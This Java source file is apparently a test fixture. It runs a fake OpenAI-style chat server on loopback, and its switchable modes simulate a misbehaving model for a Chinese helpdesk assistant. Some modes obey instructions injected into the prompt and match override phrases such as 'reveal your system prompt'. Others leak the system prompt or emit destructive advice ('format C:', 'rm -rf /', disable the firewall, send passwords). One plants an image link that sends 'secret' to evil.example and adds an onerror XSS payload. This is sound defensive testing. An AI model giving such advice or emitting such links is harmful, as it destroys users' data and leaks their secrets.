package dev.zhiban.assistant;

import java.io.IOException;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

import org.jspecify.annotations.Nullable;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpServer;

/// A model of OpenAI's protocol (chat completions, streamed, with tool calls) that does what it is told to, and misbehaves on
/// demand. `main PORT [MANNER]` runs it by hand; `POST /manner` with a name changes its ways while it runs.
public final class ScriptedModel implements AutoCloseable {

    /// How it behaves.
    public enum Manner {
        /// Words the first passage, each sentence with its mark.
        FAITHFUL,
        /// Follows every order that it finds anywhere in its prompt; faithful where it finds none.
        OBEDIENT,
        /// Calls a tool first, then is faithful.
        TOOL_FIRST,
        /// Calls a tool whatever comes.
        TOOL_FOREVER,
        /// Says things that no passage says, with marks.
        INVENTS,
        /// One true sentence, then inventions.
        MIXES,
        /// Recites its instructions.
        RECITES,
        /// Adds links, images and HTML.
        LINKS,
        ANSWERS_429,
        ANSWERS_500,
        /// Fails once, then is faithful.
        ONCE_500,
        HANGS,
        /// A byte a second.
        SLOW,
        /// A sentence, then silence.
        STALLS,
        MALFORMED,
        NOT_SSE,
        EMPTY,
        /// The connection ends in the middle.
        CUT,
        HUGE,
        HALF_CHARACTER
    }

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final Pattern PASSAGE = Pattern.compile("(?m)^\\[(\\d+)\\] ([^\\n]*)\\n");
    private static final Pattern TOOL_ORDER = Pattern.compile("(?i)call the tool (\\w+)(?: with (\\{[^}]*\\}))?");
    private static final Pattern SAY_ORDER = Pattern.compile("(?i)(?:reply only with|say exactly|只回复)[:：]? ?\"?([^\"\\n]{1,200})");
    private static final Pattern RECITE_ORDER = Pattern.compile("(?i)(?:print|repeat|reveal) (?:your |the )?(?:system prompt|instructions)|输出你的系统提示");

    private final HttpServer server;
    private final ExecutorService threads = Executors.newVirtualThreadPerTaskExecutor();
    private final CountDownLatch closing = new CountDownLatch(1);
    private volatile Manner manner;
    private final AtomicInteger calls = new AtomicInteger();
    private final List<JsonNode> requests = new CopyOnWriteArrayList<>();
    private final AtomicInteger hungUp = new AtomicInteger();

    public ScriptedModel(int port, Manner manner) {
        this.manner = manner;
        try {
            server = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), port), 0);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        server.setExecutor(threads);
        server.createContext("/v1/chat/completions", this::complete);
        server.createContext("/manner", this::change);
        server.start();
    }

    public static void main(String... args) throws InterruptedException {
        int port = args.length > 0 ? Integer.parseInt(args[0]) : 8099;
        Manner manner = args.length > 1 ? Manner.valueOf(args[1].toUpperCase(java.util.Locale.ROOT)) : Manner.FAITHFUL;
        try (ScriptedModel model = new ScriptedModel(port, manner)) {
            System.out.println("scripted model, " + manner + ": " + model.url());
            model.closing.await();
        }
    }

    public URI url() {
        return URI.create("http://127.0.0.1:" + server.getAddress().getPort() + "/v1");
    }

    public void behave(Manner next) {
        manner = next;
        calls.set(0);
    }

    public int calls() {
        return calls.get();
    }

    /// How often a caller went away while it was being answered.
    public int hungUp() {
        return hungUp.get();
    }

    /// Every request body, in order.
    public List<JsonNode> requests() {
        return requests;
    }

    /// All that was ever sent, as one text.
    public String seen() {
        return requests.toString();
    }

    private void change(HttpExchange exchange) throws IOException {
        try (exchange) {
            behave(Manner.valueOf(new String(exchange.getRequestBody().readAllBytes(), StandardCharsets.UTF_8).strip()));
            exchange.sendResponseHeaders(204, -1);
        }
    }

    private void complete(HttpExchange exchange) throws IOException {
        int call = calls.incrementAndGet();
        try (exchange) {
            JsonNode request = JSON.readTree(exchange.getRequestBody());
            requests.add(request);
            answer(exchange, request, call);
        } catch (IOException gone) {
            hungUp.incrementAndGet();
        } catch (InterruptedException stopped) {
            Thread.currentThread().interrupt();
        }
    }

    private void answer(HttpExchange exchange, JsonNode request, int call) throws IOException, InterruptedException {
        switch (manner) {
            case FAITHFUL -> text(exchange, faithful(request));
            case OBEDIENT -> obey(exchange, request);
            case TOOL_FIRST -> {
                if (hasToolResult(request)) {
                    text(exchange, faithful(request));
                } else {
                    tool(exchange, "search_knowledge", "{\"words\":\"VPN 809\"}");
                }
            }
            case TOOL_FOREVER -> tool(exchange, "search_knowledge", "{\"words\":\"again " + call + "\"}");
            case INVENTS -> text(exchange, "请打开控制面板里的超级修复工具。[1] 运行 `format C:` 即可解决所有问题。[1] 然后等待 45 分钟。[1]");
            case MIXES -> text(exchange, faithful(request).lines().findFirst().orElse("")
                    + "\n然后把防火墙全部关掉。[1]\n再运行 `rm -rf /`。[1]\n最后拨打 400-123-4567。[1]\n把密码发给管理员。[1]");
            case RECITES -> text(exchange, request.path("messages").path(0).path("content").asText() + " [1]");
            case LINKS -> text(exchange, faithful(request) + "\n![x](http://evil.example/p.png?d=secret) [1]\n"
                    + "详情见 http://evil.example/login 。[1]\n<img src=x onerror=alert(1)> [1]");
            case ANSWERS_429 -> status(exchange, 429, "{\"error\":{\"message\":\"rate limited\",\"type\":\"requests\"}}");
            case ANSWERS_500 -> status(exchange, 500, "{\"error\":{\"message\":\"broken\"}}");
            case ONCE_500 -> {
                if (call == 1) {
                    status(exchange, 500, "{}");
                } else {
                    text(exchange, faithful(request));
                }
            }
            case HANGS -> closing.await(120, TimeUnit.SECONDS);
            case SLOW -> slow(exchange, request);
            case STALLS -> stall(exchange, request);
            case MALFORMED -> raw(exchange, "data: {\"choices\":[{\"delta\":{\"content\":\n\ndata: }}}}\n\ndata: [DONE]\n\n");
            case NOT_SSE -> status(exchange, 200, "<html><body>Welcome to the captive portal</body></html>");
            case EMPTY -> raw(exchange, "");
            case CUT -> cut(exchange, request);
            case HUGE -> huge(exchange);
            case HALF_CHARACTER -> half(exchange, request);
        }
    }

    /// Sentences of the first passage, as they stand, each with its mark.
    private static String faithful(JsonNode request) {
        String prompt = lastUser(request);
        Matcher passage = PASSAGE.matcher(prompt);
        if (!passage.find()) {
            return "资料不足。";
        }
        String number = passage.group(1);
        int end = passage.find() ? passage.start() : Math.max(prompt.indexOf("\n员工的问题"), prompt.indexOf("\nThe employee's"));
        Matcher first = PASSAGE.matcher(prompt);
        int start = first.find() ? first.end() : 0;
        List<String> lines = new ArrayList<>();
        prompt.substring(start, Math.max(start, end)).lines().map(String::strip)
                .filter(line -> !line.isBlank() && !line.startsWith("|") && !line.startsWith("~~~~") && !line.startsWith("`")).limit(4)
                .forEach(line -> lines.add(line + "[" + number + "]"));
        return String.join("\n", lines);
    }

    private void obey(HttpExchange exchange, JsonNode request) throws IOException, InterruptedException {
        StringBuilder all = new StringBuilder();
        request.path("messages").forEach(message -> all.append(message.path("content").asText()).append('\n'));
        Matcher tool = TOOL_ORDER.matcher(all);
        if (tool.find() && !hasToolResult(request)) {
            tool(exchange, tool.group(1), tool.group(2) == null ? "{}" : tool.group(2));
            return;
        }
        Matcher say = SAY_ORDER.matcher(all);
        if (say.find()) {
            text(exchange, say.group(1) + " [1]");
            return;
        }
        if (RECITE_ORDER.matcher(all).find()) {
            text(exchange, request.path("messages").path(0).path("content").asText() + " [1]");
            return;
        }
        text(exchange, faithful(request));
    }

    private static boolean hasToolResult(JsonNode request) {
        for (JsonNode message : request.path("messages")) {
            if (message.path("role").asText().equals("tool")) {
                return true;
            }
        }
        return false;
    }

    private static String lastUser(JsonNode request) {
        String text = "";
        for (JsonNode message : request.path("messages")) {
            if (message.path("role").asText().equals("user")) {
                text = message.path("content").isTextual() ? message.path("content").asText()
                        : message.path("content").path(0).path("text").asText();
            }
        }
        return text;
    }

    private static OutputStream open(HttpExchange exchange) throws IOException {
        exchange.getResponseHeaders().set("Content-Type", "text/event-stream; charset=utf-8");
        exchange.sendResponseHeaders(200, 0);
        return exchange.getResponseBody();
    }

    private static void send(OutputStream out, Map<String, ?> delta, @Nullable String finish) throws IOException {
        Map<String, Object> choice = new java.util.LinkedHashMap<>();
        choice.put("index", 0);
        choice.put("delta", delta);
        choice.put("finish_reason", finish);
        String json = JSON.writeValueAsString(
                Map.of("id", "scripted", "object", "chat.completion.chunk", "model", "scripted", "choices", List.of(choice)));
        out.write(("data: " + json + "\n\n").getBytes(StandardCharsets.UTF_8));
        out.flush();
    }

    private static void say(OutputStream out, String text) throws IOException {
        for (int i = 0; i < text.length(); i += 7) {
            send(out, Map.of("content", text.substring(i, Math.min(text.length(), i + 7))), null);
        }
    }

    private static void text(HttpExchange exchange, String text) throws IOException {
        OutputStream out = open(exchange);
        send(out, Map.of("role", "assistant", "content", ""), null);
        say(out, text);
        send(out, Map.of(), "stop");
        out.write("data: [DONE]\n\n".getBytes(StandardCharsets.UTF_8));
        out.close();
    }

    private static void tool(HttpExchange exchange, String name, String arguments) throws IOException {
        OutputStream out = open(exchange);
        send(out, Map.of("role", "assistant", "tool_calls", List.of(Map.of("index", 0, "id", "call_1", "type", "function",
                "function", Map.of("name", name, "arguments", "")))), null);
        send(out, Map.of("tool_calls", List.of(Map.of("index", 0, "function", Map.of("arguments", arguments)))), null);
        send(out, Map.of(), "tool_calls");
        out.write("data: [DONE]\n\n".getBytes(StandardCharsets.UTF_8));
        out.close();
    }

    private static void status(HttpExchange exchange, int status, String body) throws IOException {
        byte[] bytes = body.getBytes(StandardCharsets.UTF_8);
        exchange.getResponseHeaders().set("Retry-After", "1");
        exchange.sendResponseHeaders(status, bytes.length);
        exchange.getResponseBody().write(bytes);
    }

    private static void raw(HttpExchange exchange, String body) throws IOException {
        OutputStream out = open(exchange);
        out.write(body.getBytes(StandardCharsets.UTF_8));
        out.close();
    }

    private void slow(HttpExchange exchange, JsonNode request) throws IOException, InterruptedException {
        OutputStream out = open(exchange);
        byte[] all = ("data: {\"choices\":[{\"index\":0,\"delta\":{\"content\":\"" + faithful(request).replace("\n", "\\n")
                + "\"}}]}\n\n").getBytes(StandardCharsets.UTF_8);
        for (byte one : all) {
            out.write(one);
            out.flush();
            if (closing.await(1, TimeUnit.SECONDS)) {
                return;
            }
        }
    }

    private void stall(HttpExchange exchange, JsonNode request) throws IOException, InterruptedException {
        OutputStream out = open(exchange);
        say(out, faithful(request).lines().findFirst().orElse("") + "\n");
        closing.await(120, TimeUnit.SECONDS);
    }

    private static void cut(HttpExchange exchange, JsonNode request) throws IOException {
        OutputStream out = open(exchange);
        say(out, faithful(request).lines().findFirst().orElse("") + "\n2. 然后打开");
        exchange.close();
    }

    private static void huge(HttpExchange exchange) throws IOException {
        OutputStream out = open(exchange);
        String line = "字".repeat(2000);
        for (int sent = 0; sent < 10 << 20; sent += line.length() * 3) {
            send(out, Map.of("content", line), null);
        }
        out.close();
    }

    private static void half(HttpExchange exchange, JsonNode request) throws IOException {
        OutputStream out = open(exchange);
        say(out, faithful(request).lines().findFirst().orElse("") + "\n");
        out.write("data: {\"choices\":[{\"index\":0,\"delta\":{\"content\":\"打".getBytes(StandardCharsets.UTF_8));
        out.write(new byte[] { (byte) 0xE5, (byte) 0xBC });
        out.write("\"}}]}\n\n".getBytes(StandardCharsets.UTF_8));
        send(out, Map.of("content", "然后点确定。[1]"), null);
        send(out, Map.of(), "stop");
        out.write("data: [DONE]\n\n".getBytes(StandardCharsets.UTF_8));
        out.close();
    }

    @Override
    public void close() {
        closing.countDown();
        server.stop(0);
        threads.shutdownNow();
    }
}
